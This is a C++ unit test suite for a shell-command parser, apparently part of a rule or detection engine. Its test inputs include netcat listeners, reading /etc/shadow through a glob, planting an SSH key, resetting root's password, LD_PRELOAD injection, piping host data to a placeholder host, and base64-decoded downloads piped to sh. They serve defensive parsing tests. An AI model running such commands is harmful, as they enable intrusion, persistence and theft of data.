#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

BOOST_AUTO_TEST_SUITE(shell_reading)

using namespace rulehost::shell;

namespace {

std::vector<std::string> texts(std::span<std::string_view const> of) {
    return {of.begin(), of.end()};
}

} // namespace

BOOST_AUTO_TEST_CASE(program_is_found_behind_every_wrapper) {
    line_reading const line("sudo -u root nohup timeout 5 busybox /usr/bin/wget http://h/x");
    auto const& wget = line.of("wget");
    BOOST_TEST(wget.path == "/usr/bin/wget");
    BOOST_TEST(texts(line.read.via(wget)) == (std::vector<std::string>{"sudo", "nohup", "timeout", "busybox"}),
               boost::test_tools::per_element());
    BOOST_TEST(wget.text == "/usr/bin/wget http://h/x");
    BOOST_TEST(line.of("sudo").wrapper);
    BOOST_TEST(!wget.wrapper);
}

BOOST_AUTO_TEST_CASE(cluster_of_letters_is_several_options) {
    line_reading const line("rm -rf /x; tail -31 f; nc -lvp 4444; curl -sSLo out http://h/x");
    auto const names = [&](std::string_view program) {
        std::vector<std::string> all;
        for (auto const& each : line.read.options_of(line.of(program)))
            all.emplace_back(each.has_value ? std::string(each.name) + "=" + std::string(each.value)
                                            : std::string(each.name));
        return all;
    };
    BOOST_TEST(names("rm") == (std::vector<std::string>{"-r", "-f"}), boost::test_tools::per_element());
    BOOST_TEST(names("tail") == (std::vector<std::string>{"-31"}), boost::test_tools::per_element());
    BOOST_TEST(names("nc") == (std::vector<std::string>{"-l", "-v", "-p=4444"}), boost::test_tools::per_element());
    BOOST_TEST(names("curl") == (std::vector<std::string>{"-s", "-S", "-L", "-o=out"}),
               boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(attached_separate_and_long_values_are_one_option) {
    for (std::string_view const text :
         {"wget -O f u", "wget -Of u", "wget --output-document f u", "wget --output-document=f u"}) {
        line_reading const line(text);
        auto const options = line.read.options_of(line.of("wget"));
        BOOST_REQUIRE(options.size() == 1U);
        BOOST_TEST((options[0].name == "-O" || options[0].twin == "-O"));
        BOOST_TEST(options[0].value == "f");
        BOOST_TEST(texts(line.read.operands(line.of("wget"))) == (std::vector<std::string>{"u"}),
                   boost::test_tools::per_element());
    }
}

BOOST_AUTO_TEST_CASE(unset_variable_is_kept_in_one_reading_and_empty_in_the_next) {
    line_reading const line("rm -rf ${zz}/etc");
    BOOST_REQUIRE(line.read.commands.size() == 2U);
    BOOST_TEST((line.read.commands[0].from == source::kept));
    BOOST_TEST(texts(line.read.operands(line.read.commands[0])) == (std::vector<std::string>{"$zz/etc"}),
               boost::test_tools::per_element());
    BOOST_TEST(texts(line.read.operands(line.read.commands[1])) == (std::vector<std::string>{"/etc"}),
               boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(function_that_calls_itself_is_no_program_wherever_it_is_defined) {
    for (std::string_view const text : {":(){ :|:& };:", "( f(){ f|f& }; id )", "sh -c 'f(){ f|f& }; id'",
                                        "id | f() { f; }", "echo 'f(){ f|f& };f' | sh"}) {
        line_reading const line(text);
        BOOST_TEST(!line.commands().contains({"f"}), text);
        BOOST_TEST(!line.commands().contains({":"}), text);
    }
    BOOST_TEST(line_reading("( f() { id; } ); f").commands().contains({"f"}));
}

BOOST_AUTO_TEST_CASE(name_of_the_script_is_kept_in_one_reading_and_sh_in_the_next) {
    for (std::string_view const text : {"rm -- \"$0\"", "f() { rm -- $0; }; f x", "set -- a b; rm -- ${0}"}) {
        line_reading const line(text);
        std::vector<std::vector<std::string>> read;
        for (auto const& each : line.read.commands)
            if (each.program == "rm")
                read.push_back(texts(line.read.operands(each)));
        BOOST_TEST((read == std::vector<std::vector<std::string>>{{"$0"}, {"sh"}}), text);
    }
    BOOST_TEST(line_reading("sh -c 'rm $0' /tmp/x").commands().contains({"rm", "/tmp/x"}));
}

BOOST_AUTO_TEST_CASE(pattern_of_an_operand_stays_and_a_known_path_is_another_reading) {
    line_reading const many("ls -l /proc/*/exe /etc/rc*.d /home/* /*");
    BOOST_TEST(texts(many.read.operands(many.of("ls"))) ==
                   (std::vector<std::string>{"/proc/*/exe", "/etc/rc*.d", "/home/*", "/*"}),
               boost::test_tools::per_element());
    line_reading const one("/b?n/c?t /etc/sha?ow");
    BOOST_REQUIRE(one.read.commands.size() == 2U);
    BOOST_TEST(texts(one.read.operands(one.read.commands[0])) == (std::vector<std::string>{"/etc/sha?ow"}),
               boost::test_tools::per_element());
    BOOST_TEST(texts(one.read.operands(one.read.commands[1])) == (std::vector<std::string>{"/etc/shadow"}),
               boost::test_tools::per_element());
    BOOST_TEST(one.read.commands[0].program == "cat");
}

BOOST_AUTO_TEST_CASE(variables_that_the_words_of_a_command_set_are_its_own) {
    auto const sets = [](std::string_view text, std::string_view program) {
        line_reading const line(text);
        std::vector<std::string> all;
        for (auto const& each : line.read.sets_of(line.of(program)))
            all.push_back(std::string(each.name) + "=" + std::string(each.value));
        return all;
    };
    for (std::string_view const program : {"export", "declare", "typeset", "readonly", "local"})
        BOOST_TEST(sets(std::string(program) + " -x A='b c' D=e f", program) ==
                       (std::vector<std::string>{"A=b c", "D=e"}),
                   boost::test_tools::per_element());
    BOOST_TEST(sets("X=y env -u Z A=b D=e wget A=u", "env") == (std::vector<std::string>{"X=y", "A=b", "D=e"}),
               boost::test_tools::per_element());
    BOOST_TEST(sets("sudo -u root A=b id", "sudo") == (std::vector<std::string>{"A=b"}),
               boost::test_tools::per_element());
    BOOST_TEST(sets("dd if=x of=y", "dd").empty());
}

BOOST_AUTO_TEST_CASE(stages_of_a_pipeline_know_each_other_through_groups) {
    line_reading const line("cat f | (grep x; sort) | nc h 1");
    auto const& read = line.read;
    BOOST_TEST(read.is_piped(line.of("cat"), line.of("nc")));
    BOOST_TEST(read.is_piped(line.of("grep"), line.of("nc")));
    BOOST_TEST(read.is_piped(line.of("cat"), line.of("sort")));
    BOOST_TEST(!read.is_piped(line.of("grep"), line.of("sort")));
    BOOST_TEST(!read.is_piped(line.of("nc"), line.of("cat")));
    BOOST_TEST(line.of("nc").fed);
    BOOST_TEST(!line.of("cat").fed);
}

BOOST_AUTO_TEST_CASE(place_shows_what_encloses_a_command) {
    line_reading const line(
        "for i in a; do id; done; f() { w; }; trap 'who' EXIT; curl -d \"$(hostname)\" http://h; x=$(date)");
    auto const kind = [&](std::string_view program) {
        auto const place = line.of(program).place;
        BOOST_REQUIRE(place != none);
        return line.read.places[place];
    };
    BOOST_TEST((kind("id").what == place::kind::loop));
    BOOST_TEST((kind("w").what == place::kind::function));
    BOOST_TEST((kind("who").what == place::kind::hook));
    BOOST_TEST((kind("hostname").what == place::kind::substitution));
    BOOST_TEST(kind("hostname").program == "curl");
    BOOST_TEST(kind("date").program == "");
    BOOST_TEST((line.of("curl").place == none));
}

BOOST_AUTO_TEST_CASE(substitution_stands_in_the_program_whose_words_it_is_part_of) {
    for (auto const& [text, expected] : std::initializer_list<std::pair<std::string_view, std::string_view>>{
             {"eval \"$(whoami)\"", "eval"},
             {"eval `whoami`", "eval"},
             {"sudo -u a echo $(whoami)", "echo"},
             {"nohup timeout 5 curl h/$(whoami)", "curl"},
             {"su -c \"$(whoami)\"", "su"}}) {
        line_reading const line(text);
        auto const place = line.of("whoami").place;
        BOOST_REQUIRE(place != none);
        BOOST_TEST(line.read.places[place].program == expected, text);
    }
}

BOOST_AUTO_TEST_CASE(text_never_crosses_the_borders_of_a_command) {
    line_reading const line("id -u; wget 'http://h/a b' > /tmp/x && w\"ho\"");
    BOOST_TEST(line.of("id").text == "id -u");
    BOOST_TEST(line.of("wget").text == "wget http://h/a b >/tmp/x");
    BOOST_TEST(line.of("who").text == "who");
}

BOOST_AUTO_TEST_CASE(text_of_a_spread_word_behind_a_wrapper_is_put_together) {
    line_reading const line("xargs {a,b}");
    BOOST_TEST(line.of("a").text == "a b");
}

BOOST_AUTO_TEST_CASE(bytes_of_the_line_are_reported_also_behind_dropped_ones) {
    std::string const text = "id\r\nwg\"et\" u\r\n";
    line_reading const line(text);
    auto const& wget = line.of("wget");
    BOOST_TEST(text.substr(wget.begin, wget.end - wget.begin) == "wg\"et\" u");
}

BOOST_AUTO_TEST_CASE(data_is_what_a_command_prints_or_gets) {
    line_reading const line(
        "echo 'ssh-rsa AAAA' | tee -a ~/.ssh/authorized_keys; chpasswd <<< root:x; cat <<E\nbody\nE");
    BOOST_TEST(line.of("echo").output == "ssh-rsa AAAA\n");
    BOOST_TEST(line.of("tee").input == "ssh-rsa AAAA\n");
    BOOST_TEST(line.of("chpasswd").input == "root:x\n");
    BOOST_TEST(line.of("cat").input == "body\n");
}

BOOST_AUTO_TEST_CASE(assignments_in_front_are_kept_for_rules) {
    line_reading const line("LD_PRELOAD=/tmp/x.so A='b c' wget u");
    auto const sets = line.read.sets_of(line.of("wget"));
    BOOST_REQUIRE(sets.size() == 2U);
    BOOST_TEST(sets[0].name == "LD_PRELOAD");
    BOOST_TEST(sets[0].value == "/tmp/x.so");
    BOOST_TEST(sets[1].value == "b c");
}

BOOST_AUTO_TEST_CASE(script_is_a_command_of_its_own) {
    line_reading const line("python3 /opt/x.py a; sh ./y.sh");
    BOOST_TEST(line.of("x.py").script);
    BOOST_TEST(texts(line.read.via(line.of("x.py"))) == (std::vector<std::string>{"python3"}),
               boost::test_tools::per_element());
    BOOST_TEST(line.of("python3").family == "python");
    BOOST_TEST(line.of("y.sh").path == "./y.sh");
}

BOOST_AUTO_TEST_CASE(redirect_of_a_group_is_one_of_every_command_inside) {
    line_reading const line("{ id; w >a; } >>/var/log/x");
    BOOST_TEST(line.targets("id", effect_kind::appends) == (std::vector<std::string>{"/var/log/x"}),
               boost::test_tools::per_element());
    BOOST_TEST(line.targets("w", effect_kind::empties) == (std::vector<std::string>{"a"}),
               boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(decoded_commands_say_so) {
    line_reading const line("echo d2dldCB1 | base64 -d | sh");
    BOOST_TEST((line.of("wget").from == source::decoded));
    BOOST_REQUIRE(line.read.decoded.size() == 1U);
    BOOST_TEST(line.read.decoded[0] == "wget u");
}

BOOST_AUTO_TEST_SUITE_END()
